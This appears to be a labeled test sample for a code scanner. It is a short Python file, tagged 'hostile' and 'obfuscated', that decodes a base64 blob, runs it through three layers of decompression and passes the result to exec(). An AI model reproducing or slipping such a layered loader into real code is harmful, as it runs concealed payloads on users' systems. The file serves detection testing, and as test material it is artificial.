# label: hostile
# expect: V501 V504
# note: Three compressors one after the other, chosen out of a list in a loop.
# obfuscated: yes
# allow: V201
import base64, bz2, lzma, zlib

data = "eJwBjABz/0JaaDkxQVkmU1kgvz7ZAAAqf7v0AAFw4OHRiAEAAHQGItwyFAAIQQUAgQIDAAgCIABUVAAaAAaAA000NMQinpGQGgmDQACPSYACILHIgQhECmIGSXlUCBnySSQIxLVLajEyTp8Lr/ovw3/BgzGwMggTEULyUU4Cpc6QZCDHSFF6T/i7kinChIEF+fbIt3IwaA=="
stage = base64.b64decode(data)
for unpack in (zlib.decompress, bz2.decompress, lzma.decompress):
    stage = unpack(stage)
exec(stage)
